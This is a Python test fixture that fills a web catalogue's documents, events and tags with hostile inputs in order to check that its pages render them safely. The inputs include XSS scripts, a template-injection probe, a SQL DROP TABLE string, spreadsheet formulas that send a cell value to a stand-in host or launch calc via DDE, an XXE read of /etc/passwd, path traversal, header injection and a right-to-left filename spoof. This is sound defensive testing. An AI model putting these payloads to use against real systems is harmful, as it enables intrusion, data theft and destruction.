"""A library whose every text tries to be something else: markup, script, SQL, a template, a formula, a path, a line."""

from __future__ import annotations

import hashlib
from contextlib import closing
from typing import TYPE_CHECKING

from index.catalogue.catalogue import Catalogue
from index.catalogue.documents.writes import Content
from index.catalogue.file_records import FileLocation
from index.catalogue.metadata_layers import Description
from index.generations.synchroniser import IndexSynchroniser
from index.model import Event, Facet, Locator, PartialDate, Passage, Tag, TagSource, Unit
from index.model.documents import FileStat
from tests.webapp.small_library import SmallLibrary, build

if TYPE_CHECKING:
    from pathlib import Path

TURNED = "\u202e"
"""Has what follows written from right to left: « gpj.exe » reads « exe.jpg »."""

PAYLOADS = {
    "script": "<script>window.taken='script'</script>",
    "image": "<img src=x onerror=\"window.taken='image'\">",
    "svg": "<svg onload=window.taken='svg'><a xlink:href='javascript:window.taken=1'>x</a></svg>",
    "attribute": "\"' autofocus onfocus=window.taken='attribut' x='",
    "closing": "</title></textarea></script></style>--><b id=pris>gras</b>",
    "data": "]]></script><!--<script>",
    "template": "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} ${7*7} #{7*7}",
    "sql": "'; DROP TABLE document; -- \" OR 1=1",
    "formula": '=HYPERLINK("http://mechant.example/?"&A1;"Cliquez")',
    "formula2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "entity": "&lt;script&gt; &amp;amp; <!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "direction": f"facture{TURNED}fdp.exe",
    "path": "../../../../etc/passwd",
    "header": "ligne\r\nSet-Cookie: pris=1\r\n\r\n<html>",
    "link": "javascript:window.taken='lien'",
    "long": "é" * 240,
}
"""What is said, by what it tries to be. Each holds no NUL, which no text of the catalogue does."""

COMMON = "pelerinage"
"""Stands in the text of all of them."""

EVENT = "2025-09-{:02d}-webinaire"
"""The id of the event of each payload, by its number from 1."""


def hostile(root: Path) -> SmallLibrary:
    """A small library, and one document for each payload, which is all that is said of it."""
    library = build(root)
    with closing(Catalogue.open(library.settings.catalogue_url)) as catalogue:
        for number, (name, payload) in enumerate(PAYLOADS.items()):
            library.ids[name] = _put(catalogue, library, number, payload)
        with IndexSynchroniser(library.settings.index_folder, catalogue) as follower:
            follower.synchronise()
    return library


def addresses(library: SmallLibrary) -> list[str]:
    """Every page that says something of the payloads."""
    own = [f"/documents/{library.ids[name]}?q={COMMON}" for name in PAYLOADS]
    edited = [f"/animation/qualifier/{library.ids[name]}" for name in PAYLOADS]
    events = [f"/rendez-vous/{EVENT.format(number + 1)}" for number in range(len(PAYLOADS))]
    announced = [f"/animation/rendez-vous/{EVENT.format(number + 1)}" for number in range(len(PAYLOADS))]
    lists = ["/", f"/recherche?q={COMMON}", "/rendez-vous?annee=2025", "/themes", "/themes/aller-vers", "/etat"]
    animation = ["", "/fichiers", "/qualifier", f"/documents?q={COMMON}", "/rendez-vous", "/statistiques", "/depot"]
    return [*own, *edited, *events, *announced, *lists, *(f"/animation{each}" for each in animation)]


def file_name(payload: str) -> str:
    """A payload as far as a file system takes it for a name."""
    return payload.replace("/", "_")[:100]


def _put(catalogue: Catalogue, library: SmallLibrary, number: int, payload: str) -> str:
    content = f"{number} {payload}".encode()
    digest = hashlib.sha256(content).hexdigest()
    path = f"hostile/{file_name(payload)}.html"
    file = library.settings.library / path
    file.parent.mkdir(exist_ok=True)
    file.write_bytes(content)
    spoken = (Passage(0, Locator(Unit.HEADING, 1), f"{COMMON} {payload}", payload, payload),)
    day = PartialDate(2025, 9, number + 1)
    event = Event(EVENT.format(number + 1), "webinaire", payload, day, place=payload, description=payload)
    tags = (
        Tag(Facet.THEME, "aller-vers", TagSource.SIDECAR, payload),
        Tag(Facet.FORMAT, "html", TagSource.CONTENT, ""),
    )
    with catalogue.transaction() as transaction:
        id_ = transaction.documents.create(
            Content(digest, "html", payload, spoken, authors=(payload,), warnings=(payload,))
        )
        transaction.files.save(FileLocation(path, FileStat(len(content), file.stat().st_mtime_ns, 0), digest, id_))
        transaction.descriptions.save_each(
            {id_: Description(payload, day, event, tags, authors=(payload,), summary=payload)}
        )
    return id_
